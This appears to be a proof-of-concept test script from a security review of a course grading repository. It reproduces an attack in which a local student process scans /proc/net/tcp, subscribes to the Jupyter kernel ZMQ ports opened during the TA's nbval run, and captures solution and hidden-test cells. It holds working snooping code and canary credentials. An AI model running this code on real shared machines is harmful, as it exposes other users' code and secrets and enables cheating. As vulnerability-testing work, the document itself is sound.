"""a07b: a07 with the suggested fix (pytest plugin making KernelManager default to ipc).
a06's channel without the TA opening anything: `make nbval` (pytest --nbval-lax over notebooks/ and source/, as
`make test` and tests/test_judges_refuse_partial.py also run the solution notebooks) executes every solution notebook
in a kernel on 127.0.0.1 TCP. A local student (st51u) polls /proc/net/tcp every 20 ms, subscribes to each new listening
port of the TA's uid and collects every execute_input: the solution notebook's cells, hidden tests included."""
import json, os, subprocess, sys, time, shutil
sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import CLONE, chown_r
d = "/tmp/attack51-user-nbval"
subprocess.run(["rm", "-rf", d]); os.makedirs(d)
shutil.copytree(f"{CLONE}/source", f"{d}/source"); shutil.copy(f"{CLONE}/tests/sanitize.cfg", d)
chown_r(d); os.chmod(d, 0o700)
STUDENT = r'''
import zmq, time, json, os
ctx = zmq.Context(); poller = zmq.Poller(); subs = {}; codes = []; seen = set()
end = time.time() + float(os.environ.get("SECS", "150"))
while time.time() < end:
    for f in ("/proc/net/tcp",):
        for line in open(f).read().splitlines()[1:]:
            p = line.split()
            if p[3] == "0A" and int(p[7]) == 65534:
                port = int(p[1].split(":")[1], 16)
                if port not in seen:
                    seen.add(port); s = ctx.socket(zmq.SUB); s.setsockopt(zmq.SUBSCRIBE, b""); s.connect(f"tcp://127.0.0.1:{port}")
                    subs[s] = port; poller.register(s, zmq.POLLIN)
    for s, _ in poller.poll(20):
        frames = s.recv_multipart()
        try:
            i = frames.index(b"<IDS|MSG>"); hdr, content = json.loads(frames[i + 2]), json.loads(frames[i + 5])
        except Exception:
            continue
        if hdr["msg_type"] == "execute_input":
            codes.append(content["code"])
print("ports subscribed:", len(seen), "cells seen:", len(codes))
print("cells with a solution or hidden tests:", sum(("SOLUTION" in c or "HIDDEN TESTS" in c or "q1 =" in c) for c in codes))
for c in codes:
    if "q1 =" in c or "def partition_layers" in c:
        print("----\n" + c[:400])
print("ports subscribed:", len(seen), "cells seen:", len(codes), "with a solution:", sum("BEGIN SOLUTION" in c for c in codes),
      "with hidden tests:", sum("BEGIN HIDDEN TESTS" in c for c in codes), "quiz answers:", [c.split(chr(10))[1] for c in codes if c.startswith("### BEGIN SOLUTION") and "q" in c])
'''
open("/tmp/attack51-user-student2.py", "w").write(STUDENT); os.chmod("/tmp/attack51-user-student2.py", 0o644)
st = subprocess.Popen(["setpriv", "--reuid", "st51u", "--regid", "st51u", "--clear-groups", f"{CLONE}/.venv/bin/python", "/tmp/attack51-user-student2.py"],
                      cwd="/", env={"PATH": "/usr/bin:/bin", "SECS": "30"}, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
time.sleep(3)
env = {"PATH": f"{CLONE}/.venv/bin:/usr/bin:/bin", "HOME": "/tmp/attack51-user-home", "LANG": "C.UTF-8",
       "DATABASE_URL": "postgresql://ta:secret@localhost/x", "AWS_SECRET_ACCESS_KEY": "AKIASECRETCANARY123", "PYTHONPATH": "/tmp/attack51-user-plugin"}
t = time.time()
r = subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", f"{CLONE}/.venv/bin/python", "-m", "pytest",
                    "-p", "no:cacheprovider", "-p", "attack51_ipc", "--nbval-lax", "--nbval-cell-timeout=300", "--sanitize-with", "sanitize.cfg",
                    "source/ps1_memory/ps1_memory.ipynb", "-q"], cwd=d, env=env, capture_output=True, text=True, timeout=400)
print(f"TA's nbval run rc={r.returncode} in {time.time()-t:.0f}s: {r.stdout.strip().splitlines()[-1] if r.stdout.strip() else r.stderr[-300:]}")
out, _ = st.communicate(timeout=200)
print("STUDENT (uid st51u) collected:\n" + out[-6000:])
subprocess.run(["rm", "-rf", d, "/tmp/attack51-user-student2.py"])
